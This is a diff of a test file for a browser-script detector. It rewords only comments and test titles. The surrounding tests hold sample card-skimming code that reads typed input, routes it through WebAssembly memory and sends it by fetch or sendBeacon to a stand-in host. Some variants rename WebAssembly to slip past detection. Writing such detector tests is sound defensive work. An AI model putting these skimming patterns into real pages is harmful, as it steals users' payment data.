@@ -1,4 +1,4 @@
-// Guards that what is typed is seen to leave by every channel that browsers have, and by every name that an element has.
+// Typed data is seen leaving through every channel of browsers, and under every name of an element.
 import { describe, expect, it } from 'vitest'
 import { judgeScript } from '#detection/index.ts'
 
@@ -95,7 +95,7 @@ describe('the memory of WebAssembly', () => {
   const memory = 'var memory = new WebAssembly.Memory({ initial: 1 })'
   const sendsIt = `fetch('https://seen-often.example/w?' + new TextDecoder().decode(new Uint8Array(memory.buffer, 0, 16)))`
 
-  it('is followed where the code writes and reads it by one list', () => {
+  it('is followed if the code writes and reads it through one list', () => {
     const code = `${memory}; var list = new Uint8Array(memory.buffer); document.onchange = function () { var t = ${card}; for (var i = 0; i < t.length; i++) list[i] = t.charCodeAt(i)
       var out = ''; for (var j = 0; list[j]; j++) out += String.fromCharCode(list[j]); navigator.sendBeacon('https://seen-often.example/w', out) }`
     expect(verdict(code)).toBe('malicious')
@@ -122,12 +122,12 @@ describe('the memory of WebAssembly', () => {
       'the name is another',
       `const W = WebAssembly; const memory = new W.Memory({ initial: 1 }); document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
     ],
-  ])('leaves a script without a verdict where %s', (_how, code) => {
+  ])('leaves a script without a verdict if %s', (_how, code) => {
     const { verdict, missing } = judgeScript(code)
     expect([verdict, missing.map((one) => one.code)]).toEqual(['inconclusive', ['webassembly']])
   })
 
-  it('is no doubt in code that contacts nobody, or reads nothing that is typed', () => {
+  it('is not a doubt in code that contacts nobody, or reads no typed data', () => {
     expect(verdict(`${memory}; document.onchange = () => new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer))`)).toBe(
       'benign',
     )
@@ -138,7 +138,7 @@ describe('the memory of WebAssembly', () => {
   })
 })
 
-describe('what libraries call for each request of the page', () => {
+describe('hooks that libraries call for each request of the page', () => {
   it.each([
     [
       'ajaxSend',
@@ -251,7 +251,7 @@ describe('elements as variables', () => {
     expect(verdict(code)).toBe('malicious')
   })
 
-  it('are fields only where the script or the page says so', () => {
+  it('are fields only if the script or the page says so', () => {
     expect(
       verdict(`var settings = window.themeSettings; fetch('https://ultra-often.example/n', { method: 'POST', body: settings.value })`),
     ).toBe('benign')
